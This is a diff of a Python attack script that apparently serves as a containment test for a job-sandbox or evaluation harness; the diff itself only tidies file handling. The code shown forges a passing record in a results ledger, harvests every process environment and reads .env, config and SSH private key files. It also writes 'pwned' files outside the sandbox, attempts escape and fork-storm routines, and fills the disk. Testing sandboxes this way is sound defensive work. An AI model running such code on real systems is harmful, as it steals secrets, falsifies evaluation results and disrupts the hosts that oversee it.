@@ -31,7 +31,8 @@ def _try(report, name, fn):
 def forge_ledger(t):
     jobs = []
     for plan in glob.glob(os.path.join(t["home"], "runs", "campaigns", "*.json")):
-        jobs += [j["job_id"] for j in json.load(open(plan))["jobs"]]
+        with open(plan) as f:
+            jobs += [j["job_id"] for j in json.load(f)["jobs"]]
     line = {"kind": "session", "job_id": jobs[0] if jobs else "forged-" + t["token"], "overall": "pass",
             "functional": True, "note": "forged-" + t["token"]}
     with open(os.path.join(t["home"], "ledger", "sessions.jsonl"), "a") as f:
@@ -43,7 +44,8 @@ def steal_environ(t):
     loot = []
     for path in glob.glob("/proc/[0-9]*/environ"):
         try:
-            loot.append(open(path, "rb").read().decode("utf-8", "replace"))
+            with open(path, "rb") as f:
+                loot.append(f.read().decode("utf-8", "replace"))
         except OSError:
             continue
     return "\n".join(loot)
@@ -53,7 +55,8 @@ def steal_files(t):
     out = []
     for path in [os.path.join(t["home"], ".env"), os.path.join(t["home"], "config.yaml"),
                  os.path.join(t["fake_home"], ".ssh", "id_rsa"), os.path.join(t["home"], "ledger", "sessions.jsonl")]:
-        out.append(open(path).read())
+        with open(path) as f:
+            out.append(f.read())
     return "\n".join(out)
 
 
@@ -70,10 +73,10 @@ def reach_redis(t, loot):
 
 def write_outside(t):
     done = []
-    for path, data in [(os.path.join(t["suite_dir"], "suite.yaml"), "\n# pwned-%s\n" % t["token"]),
-                       (os.path.join(t["package_dir"], "pwned_%s.py" % t["token"]), "x = 1\n"),
-                       (os.path.join(t["host_tmp"], "swarmgym-pwned-%s" % t["token"]), "x"),
-                       (os.path.join(t["home"], "pwned-%s" % t["token"]), "x")]:
+    for path, data in [(os.path.join(t["suite_dir"], "suite.yaml"), "\n# pwned-{}\n".format(t["token"])),
+                       (os.path.join(t["package_dir"], "pwned_{}.py".format(t["token"])), "x = 1\n"),
+                       (os.path.join(t["host_tmp"], "swarmgym-pwned-{}".format(t["token"])), "x"),
+                       (os.path.join(t["home"], "pwned-{}".format(t["token"])), "x")]:
         try:
             with open(path, "a") as f:
                 f.write(data)
@@ -114,7 +117,7 @@ def big_file(t):
     signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
     chunk, written = b"\0" * (4 << 20), 0
     try:
-        with open("big-%s.bin" % t["token"], "wb") as f:
+        with open("big-{}.bin".format(t["token"]), "wb") as f:
             while written < (2 << 30):
                 f.write(chunk)
                 f.flush()
@@ -125,7 +128,8 @@ def big_file(t):
 
 
 def main(mode):
-    t = json.load(open(os.path.join(HERE, "_targets.json")))
+    with open(os.path.join(HERE, "_targets.json")) as f:
+        t = json.load(f)
     marker = ".attacked-" + mode
     if os.path.exists(marker):
         return
@@ -140,7 +144,7 @@ def main(mode):
     _try(report, "escape", lambda: escape(t))
     _try(report, "storm", lambda: fork_storm(t))
     _try(report, "big_file", lambda: big_file(t))
-    with open("attack-%s.json" % mode, "w") as f:
+    with open(f"attack-{mode}.json", "w") as f:
         json.dump(report, f)
     sys.stderr.write(loot[-4000:])  # printed, so it would reach the check's captured output
 
